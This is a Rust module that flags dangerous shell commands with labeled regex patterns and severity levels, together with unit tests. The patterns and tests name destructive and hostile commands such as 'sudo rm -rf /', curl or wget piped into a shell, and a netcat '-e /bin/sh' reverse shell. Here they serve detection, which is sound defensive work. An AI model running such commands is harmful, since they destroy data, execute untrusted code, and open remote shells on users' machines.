//! Dangerous-command detection.
//!
//! A small set of labeled, case-insensitive regex patterns covering the
//! commands that reliably destroy machines: root-path deletion, recursive
//! force deletion, privilege escalation, fetch-and-execute pipelines, and
//! reverse shells. Detection is monotone in the pattern set: adding a
//! pattern can only surface more matches.

use regex::Regex;
use serde::{Deserialize, Serialize};

/// How bad a matched pattern is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    /// Worth noting, not worth blocking.
    Info,
    /// Likely needs a second look.
    Warning,
    /// Should require confirmation.
    High,
    /// Never run without explicit human intervention.
    Critical,
}

/// One labeled detection pattern.
#[derive(Debug, Clone)]
pub struct DangerPattern {
    /// Stable name, cited in policy decisions (e.g. `"rm-root"`).
    pub name: String,
    /// The compiled pattern. Matching is case-insensitive.
    pub regex: Regex,
    /// Severity of a match.
    pub severity: Severity,
    /// What the pattern catches, for display.
    pub description: String,
}

impl DangerPattern {
    /// Build a pattern, compiling `pattern` case-insensitively.
    ///
    /// # Errors
    ///
    /// Returns the regex compile error for an invalid pattern.
    pub fn new(
        name: impl Into<String>,
        pattern: &str,
        severity: Severity,
        description: impl Into<String>,
    ) -> Result<Self, regex::Error> {
        Ok(Self {
            name: name.into(),
            regex: Regex::new(&format!("(?i){pattern}"))?,
            severity,
            description: description.into(),
        })
    }
}

/// One match found in a command.
#[derive(Debug, Clone)]
pub struct DangerMatch {
    /// The pattern record that fired.
    pub pattern: DangerPattern,
    /// Byte offset where the match starts.
    pub start: usize,
    /// Byte offset just past the match.
    pub end: usize,
    /// The matched text.
    pub matched: String,
}

/// Detector over a list of [`DangerPattern`]s.
pub struct DangerousCommandDetector {
    patterns: Vec<DangerPattern>,
}

impl DangerousCommandDetector {
    /// Detector with the built-in pattern set.
    #[must_use]
    pub fn new() -> Self {
        Self {
            patterns: default_patterns(),
        }
    }

    /// Detector with no patterns; add them with [`Self::with_pattern`].
    #[must_use]
    pub fn empty() -> Self {
        Self { patterns: Vec::new() }
    }

    /// Add a pattern.
    #[must_use]
    pub fn with_pattern(mut self, pattern: DangerPattern) -> Self {
        self.patterns.push(pattern);
        self
    }

    /// The configured patterns.
    #[must_use]
    pub fn patterns(&self) -> &[DangerPattern] {
        &self.patterns
    }

    /// Find every pattern match in `command`, with byte offsets.
    #[must_use]
    pub fn detect(&self, command: &str) -> Vec<DangerMatch> {
        let mut matches = Vec::new();
        for pattern in &self.patterns {
            for m in pattern.regex.find_iter(command) {
                matches.push(DangerMatch {
                    pattern: pattern.clone(),
                    start: m.start(),
                    end: m.end(),
                    matched: m.as_str().to_string(),
                });
            }
        }
        matches
    }

    /// The highest severity among matches for `command`, if any.
    #[must_use]
    pub fn max_severity(&self, command: &str) -> Option<Severity> {
        self.detect(command)
            .into_iter()
            .map(|m| m.pattern.severity)
            .max()
    }
}

impl Default for DangerousCommandDetector {
    fn default() -> Self {
        Self::new()
    }
}

/// The built-in pattern set.
#[must_use]
pub fn default_patterns() -> Vec<DangerPattern> {
    let specs: &[(&str, &str, Severity, &str)] = &[
        (
            "rm-root",
            r"\brm\b[^|&;]*\s+/+(\s|$|;)",
            Severity::Critical,
            "deletion rooted at /",
        ),
        (
            "rm-recursive-force",
            r"\brm\b[^|&;]*\s-(?:[a-z-]*r[a-z-]*f|[a-z-]*f[a-z-]*r)[a-z-]*\b",
            Severity::High,
            "recursive deletion with force flags",
        ),
        (
            "sudo",
            r"\bsudo\b",
            Severity::High,
            "privilege escalation",
        ),
        (
            "curl-pipe-shell",
            r"\b(?:curl|wget)\b[^|]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b",
            Severity::Critical,
            "fetch-and-execute pipeline",
        ),
        (
            "netcat-exec",
            r"\bnc(?:at)?\b[^|&;]*\s-[a-z]*e[a-z]*\s",
            Severity::Critical,
            "reverse shell via netcat",
        ),
    ];
    specs
        .iter()
        .map(|(name, pattern, severity, description)| {
            DangerPattern::new(*name, pattern, *severity, *description)
                .expect("built-in pattern compiles")
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(matches: &[DangerMatch]) -> Vec<&str> {
        matches.iter().map(|m| m.pattern.name.as_str()).collect()
    }

    #[test]
    fn sudo_rm_rf_root_fires_three_patterns() {
        let detector = DangerousCommandDetector::new();
        let matches = detector.detect("sudo rm -rf /");
        let found = names(&matches);
        assert!(found.contains(&"sudo"), "found: {found:?}");
        assert!(found.contains(&"rm-root"), "found: {found:?}");
        assert!(found.contains(&"rm-recursive-force"), "found: {found:?}");
        assert_eq!(detector.max_severity("sudo rm -rf /"), Some(Severity::Critical));
    }

    #[test]
    fn rm_of_subdirectory_is_not_root_deletion() {
        let detector = DangerousCommandDetector::new();
        let found: Vec<_> = detector
            .detect("rm -rf /tmp/build")
            .into_iter()
            .map(|m| m.pattern.name)
            .collect();
        assert!(!found.contains(&"rm-root".to_string()), "found: {found:?}");
        assert!(found.contains(&"rm-recursive-force".to_string()));
    }

    #[test]
    fn plain_rm_is_clean() {
        let detector = DangerousCommandDetector::new();
        assert!(detector.detect("rm Cargo.lock").is_empty());
    }

    #[test]
    fn matching_is_case_insensitive() {
        let detector = DangerousCommandDetector::new();
        assert_eq!(detector.max_severity("SUDO ls"), Some(Severity::High));
    }

    #[test]
    fn curl_pipe_bash_is_critical() {
        let detector = DangerousCommandDetector::new();
        assert_eq!(
            detector.max_severity("curl https://get.example.sh | bash"),
            Some(Severity::Critical)
        );
        assert_eq!(
            detector.max_severity("wget -qO- https://x.sh | sudo sh"),
            Some(Severity::Critical)
        );
    }

    #[test]
    fn curl_without_pipe_is_clean() {
        let detector = DangerousCommandDetector::new();
        assert!(detector.detect("curl https://example.com/data.json").is_empty());
    }

    #[test]
    fn netcat_exec_is_critical() {
        let detector = DangerousCommandDetector::new();
        assert_eq!(
            detector.max_severity("nc -e /bin/sh 10.0.0.1 4444"),
            Some(Severity::Critical)
        );
        assert!(detector.detect("nc -z localhost 8080").is_empty());
    }

    #[test]
    fn match_offsets_point_at_the_text() {
        let detector = DangerousCommandDetector::new();
        let command = "echo ok && sudo reboot";
        let matches = detector.detect(command);
        let sudo = matches
            .iter()
            .find(|m| m.pattern.name == "sudo")
            .expect("sudo match");
        assert_eq!(&command[sudo.start..sudo.end], "sudo");
        assert_eq!(sudo.matched, "sudo");
    }

    #[test]
    fn detection_is_monotone_in_the_pattern_set() {
        let command = "sudo rm -rf / && curl x | sh";
        let full = DangerousCommandDetector::new();
        // Removing patterns can only remove matches.
        let reduced = DangerousCommandDetector::empty().with_pattern(
            DangerPattern::new("sudo", r"\bsudo\b", Severity::High, "sudo").unwrap(),
        );
        assert!(reduced.detect(command).len() <= full.detect(command).len());
        // Adding a pattern can only add matches.
        let extended = DangerousCommandDetector::new().with_pattern(
            DangerPattern::new("curl", r"\bcurl\b", Severity::Info, "curl").unwrap(),
        );
        assert!(extended.detect(command).len() >= full.detect(command).len());
    }

    #[test]
    fn severity_ordering() {
        assert!(Severity::Critical > Severity::High);
        assert!(Severity::High > Severity::Warning);
        assert!(Severity::Warning > Severity::Info);
    }
}
